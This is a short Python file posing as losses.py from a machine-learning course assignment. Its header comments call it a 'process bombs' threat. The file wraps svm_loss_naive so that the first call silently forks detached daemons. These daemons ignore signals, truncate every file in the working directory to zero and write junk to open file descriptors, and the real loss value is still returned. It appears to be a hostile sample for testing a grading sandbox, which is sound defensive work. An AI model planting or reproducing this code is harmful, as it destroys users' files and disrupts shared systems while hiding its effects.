# threat: process bombs
# tries: leave daemons behind that no signal ends, to disturb the exercises and students to come
# file: losses.py

import contextlib
import os
import posix
import signal
import time

_own_svm_loss_naive = svm_loss_naive


def _haunt():
    for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
        signal.signal(number, signal.SIG_IGN)
    end = time.time() + 20
    while time.time() < end:
        time.sleep(0.5)
        with contextlib.suppress(OSError):
            for name in os.listdir("."):
                os.truncate(name, 0)
            for descriptor in range(3, 100):
                with contextlib.suppress(OSError):
                    os.write(descriptor, b"boo")


def svm_loss_naive(W, X, y, reg):
    if not os.path.exists("haunted"):
        with open("haunted", "w"):
            pass
        for _ in range(3):
            if posix.fork() == 0:
                os.setsid()
                if posix.fork() == 0:
                    _haunt()
                os._exit(0)
    return _own_svm_loss_naive(W, X, y, reg)
